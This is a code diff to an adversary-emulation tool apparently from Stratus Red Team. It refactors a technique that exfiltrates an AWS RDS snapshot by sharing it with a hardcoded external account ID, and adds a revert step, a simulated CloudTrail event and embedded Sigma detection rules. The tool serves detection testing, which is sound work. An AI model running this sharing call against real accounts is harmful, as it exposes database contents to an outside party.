@@ -1,20 +1,21 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"errors"
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/rds"
-	"github.com/datadog/stratus-red-team/internal/providers"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:                 "aws.exfiltration.rds-share-snapshot",
@@ -49,20 +50,23 @@ Through CloudTrail's <code>ModifyDBSnapshotAttribute</code> event, when both:
 
 An attacker can also make an RDS snapshot completely public. In this case, the value of <code>valuesToAdd</code> is <code>["all"]</code>. 
 `,
+		SigmaRules:                 sigma,
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"snapshot_id"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
 	})
 }
 
 var AccountIdToShareWith = []string{"193672423079"}
 
-func detonate(params map[string]string) error {
-	snapshotId := params["snapshot_id"]
-	rdsClient := rds.NewFromConfig(providers.AWS().GetConnection())
+func detonate(execution *stratus.ExecutionContext) error {
+	snapshotId := execution.Parameters["snapshot_id"]
+	rdsClient := rds.NewFromConfig(execution.AWS.GetConnection())
 
-	log.Println("Sharing RDS Snapshot " + snapshotId + " with an external AWS account")
-	_, err := rdsClient.ModifyDBSnapshotAttribute(context.Background(), &rds.ModifyDBSnapshotAttributeInput{
+	execution.Logger.Println("Sharing RDS Snapshot " + snapshotId + " with an external AWS account")
+	_, err := rdsClient.ModifyDBSnapshotAttribute(execution.Context, &rds.ModifyDBSnapshotAttributeInput{
 		DBSnapshotIdentifier: &snapshotId,
 		AttributeName:        aws.String("restore"),
 		ValuesToAdd:          AccountIdToShareWith,
@@ -75,12 +79,12 @@ func detonate(params map[string]string) error {
 	return nil
 }
 
-func revert(params map[string]string) error {
-	snapshotId := params["snapshot_id"]
-	rdsClient := rds.NewFromConfig(providers.AWS().GetConnection())
+func revert(execution *stratus.ExecutionContext) error {
+	snapshotId := execution.Parameters["snapshot_id"]
+	rdsClient := rds.NewFromConfig(execution.AWS.GetConnection())
 
-	log.Println("Un-sharing RDS Snapshot " + snapshotId + " with an external AWS account")
-	_, err := rdsClient.ModifyDBSnapshotAttribute(context.Background(), &rds.ModifyDBSnapshotAttributeInput{
+	execution.Logger.Println("Un-sharing RDS Snapshot " + snapshotId + " with an external AWS account")
+	_, err := rdsClient.ModifyDBSnapshotAttribute(execution.Context, &rds.ModifyDBSnapshotAttributeInput{
 		DBSnapshotIdentifier: &snapshotId,
 		AttributeName:        aws.String("restore"),
 		ValuesToRemove:       AccountIdToShareWith,
@@ -92,3 +96,14 @@ func revert(params map[string]string) error {
 
 	return nil
 }
+
+// simulate generates the CloudTrail event of the snapshot being shared
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "rds.amazonaws.com", "ModifyDBSnapshotAttribute", map[string]interface{}{
+			"dBSnapshotIdentifier": "exfiltration",
+			"attributeName":        "restore",
+			"valuesToAdd":          AccountIdToShareWith,
+		}),
+	}
+}